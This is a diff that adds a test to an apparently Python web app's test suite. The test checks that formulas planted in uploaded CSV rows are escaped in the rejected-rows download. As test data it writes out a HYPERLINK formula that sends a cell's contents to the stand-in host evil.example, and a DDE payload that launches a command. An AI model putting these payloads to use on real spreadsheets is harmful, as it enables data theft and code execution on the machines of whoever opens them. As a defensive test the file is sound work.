@@ -281,3 +281,48 @@ def test_roles_that_may_not_import_are_refused(
     data = other.http.get("/data.json").json()
     assert data["can_import"] is False and data["imports"] == []
     assert 'action="/data/imports"' not in other.http.get("/data").text
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
+
+
+def test_the_rejected_rows_download_runs_no_planted_formula(
+    analyst: Browser, settings: Settings
+) -> None:
+    reader = csv.DictReader(io.StringIO(UCDP.read_text(encoding="utf-8"), newline=""))
+    out = io.StringIO()
+    writer = csv.DictWriter(out, reader.fieldnames or [], lineterminator="\n")
+    writer.writeheader()
+    for index, row in enumerate(reader):
+        if index == 3:
+            row |= {"best": FORMULA, "where_description": "@SUM(1+1)*cmd|' /C calc'!A0"}
+        if index == 5:
+            row |= {"latitude": "north", "where_description": "-3", "adm_1": "+1 call me"}
+        writer.writerow(row)
+    location = analyst.upload("formula.csv", out.getvalue().encode(), "events:ucdp").headers[
+        "location"
+    ]
+    job, _ = analyst.wait(location)
+    assert job["status"] == "refused" and job["rejects_url"]
+    rows = list(csv.DictReader(io.StringIO(analyst.http.get(job["rejects_url"]).text)))
+    assert len(rows) == 2
+    assert rows[0]["best"] == "'" + FORMULA
+    assert rows[0]["where_description"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert rows[1]["where_description"] == "-3"  # a plain number stays a number
+    assert rows[1]["adm_1"] == "'+1 call me"
+    assert not [v for r in rows for v in r.values() if v and v[0] in "=+@\t\r"]
+
+    fields = {"speech_columns": SPEECH_COLUMNS, "country_scheme": "iso2"}
+    text = (
+        SPEECH.read_text()
+        .replace("The council met today", "=1+2 The council met today", 1)
+        .replace(",KE,", ",QQ,", 1)
+    )
+    refused, _ = analyst.wait(
+        analyst.upload("formula_items.csv", text.encode(), "speech:csv", **fields).headers[
+            "location"
+        ]
+    )
+    assert refused["status"] == "refused"
+    (item,) = csv.DictReader(io.StringIO(analyst.http.get(refused["rejects_url"]).text))
+    assert item["body"].startswith("'=1+2 The council met today")
